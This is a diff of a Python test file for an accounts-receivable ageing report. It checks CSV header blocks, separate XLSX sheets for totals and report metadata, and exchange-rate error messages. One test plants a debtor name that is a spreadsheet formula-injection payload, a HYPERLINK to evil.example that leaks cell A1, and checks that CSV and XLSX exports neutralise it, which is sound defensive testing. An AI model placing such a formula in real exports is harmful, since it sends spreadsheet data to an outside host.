@@ -71,7 +71,7 @@ def test_terminal_table_shows_each_debtor_and_the_netted_total_per_currency(acme
 def test_csv_round_trips_exact_amounts_in_each_currencys_decimals(acme, tmp_path):
     path = tmp_path / "ageing.csv"
     ageing("--csv", str(path), "--buckets", "0,30,60")
-    rows = list(csv.DictReader(path.open()))
+    rows = list(csv.DictReader(line for line in path.open() if not line.startswith("#")))
     assert list(rows[0]) == [
         "debtor",
         "name",
@@ -92,9 +92,53 @@ def test_csv_round_trips_exact_amounts_in_each_currencys_decimals(acme, tmp_path
         "1300.01",
     )
     assert got[("MORTAR", "JPY")]["31-60"] == "1500"
-    assert got[("Total", "EUR")]["total"] == "6300.01"
-    eur = [r for r in rows if r["currency"] == "EUR" and r["debtor"] != "Total"]
+    eur = [r for r in rows if r["currency"] == "EUR"]
     assert sum(Decimal(r["total"]) for r in eur) == Decimal("6300.01")
+
+
+def test_csv_has_a_header_block_with_company_date_and_totals_and_data_rows_alone(acme, tmp_path):
+    path = tmp_path / "ageing.csv"
+    ageing("--csv", str(path), "--buckets", "0,30,60")
+    lines = list(csv.reader(path.open()))
+    block = [row for row in lines if row[0].startswith("#")]
+    table = [row for row in lines if not row[0].startswith("#")]
+    assert block[:5] == [
+        ["# report", "ageing"],
+        ["# company", "acme", "Acme GmbH"],
+        ["# as of", "2026-03-31"],
+        ["# by", "debtor"],
+        ["# amounts in", "each row's own currency"],
+    ]
+    assert [(r[0], r[2], r[-1]) for r in block[5:]] == [
+        ("# Total", "EUR", "6300.01"),
+        ("# Total", "JPY", "1500"),
+    ]
+    assert lines.index(table[0]) == len(block)  # the block comes first, then the table
+    assert sorted((r[0], r[2]) for r in table[1:]) == [
+        ("BRICK", "EUR"),
+        ("MORTAR", "EUR"),
+        ("MORTAR", "JPY"),
+    ]
+
+
+def test_xlsx_keeps_totals_and_what_the_report_is_on_sheets_of_their_own(acme, tmp_path):
+    path = tmp_path / "ageing.xlsx"
+    ageing("--xlsx", str(path))
+    book = load_workbook(path)
+    assert book.sheetnames == ["ageing", "totals", "report"]
+    data = book["ageing"]
+    assert sorted(r[0].value for r in data.iter_rows(min_row=2)) == ["BRICK", "MORTAR", "MORTAR"]
+    assert data.auto_filter.ref == f"A1:{data.cell(1, data.max_column).column_letter}4"
+    widths = {c: data.column_dimensions[c].width for c in "ABC"}
+    assert widths["A"] >= len("MORTAR") and widths["B"] >= len("Mortar SA")
+    assert data.column_dimensions["D"].width >= len("1,234.50")
+    totals = book["totals"]
+    assert [(r[0].value, r[2].value) for r in totals.iter_rows(min_row=2)] == [
+        ("Total", "EUR"),
+        ("Total", "JPY"),
+    ]
+    about = {r[0].value: [c.value for c in r[1:] if c.value] for r in book["report"].iter_rows()}
+    assert about["company"] == ["acme", "Acme GmbH"] and about["as of"] == ["2026-03-31"]
 
 
 def test_xlsx_opens_with_openpyxl_with_a_bold_frozen_header_and_the_same_figures(acme, tmp_path):
@@ -111,8 +155,7 @@ def test_xlsx_opens_with_openpyxl_with_a_bold_frozen_header_and_the_same_figures
     assert brick["total"].number_format == "#,##0.00"
     jpy = {h: cell for h, cell in zip(header, rows[("MORTAR", "JPY")], strict=True)}
     assert (jpy["31-60"].value, jpy["31-60"].number_format) == (1500, "#,##0")
-    total = {h: cell.value for h, cell in zip(header, rows[("Total", "EUR")], strict=True)}
-    assert Decimal(str(total["total"])) == Decimal("6300.01")
+    assert ("Total", "EUR") not in rows  # totals have a sheet of their own
 
 
 def test_grouping_by_owner_totals_each_collectors_portfolio(acme):
@@ -163,20 +206,24 @@ def test_bad_bucket_spec_is_refused_with_the_reason(acme):
 
 
 def test_missing_exchange_rate_is_a_clear_error(acme):
-    with pytest.raises(CommandError, match="no exchange rate into EUR for JPY"):
+    with pytest.raises(
+        CommandError, match="no exchange rate into EUR for JPY valid on 2026-03-31"
+    ) as e:
         ageing("--in-company-currency")
+    assert "arrears import rates FILE" in str(e.value)
 
 
 def test_csv_and_xlsx_neutralise_a_debtor_name_that_is_a_formula(acme, tmp_path):
     phish = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
     factories.item(factories.debtor(acme, code="+EVIL", name=phish), due=ago(5), amount=10_00)
     ageing("--csv", str(tmp_path / "a.csv"), "--xlsx", str(tmp_path / "a.xlsx"))
-    rows = list(csv.DictReader((tmp_path / "a.csv").open()))
+    text = (tmp_path / "a.csv").open()
+    rows = list(csv.DictReader(line for line in text if not line.startswith("#")))
     evil = next(r for r in rows if r["debtor"] == "'+EVIL")
     assert (evil["name"], evil["total"]) == ("'" + phish, "10.00")
     cells = [
         (c.value, c.data_type)
-        for row in load_workbook(tmp_path / "a.xlsx").active.iter_rows(min_row=2)
+        for row in load_workbook(tmp_path / "a.xlsx")["ageing"].iter_rows(min_row=2)
         for c in row[:2]
         if row[0].value == "'+EVIL"
     ]
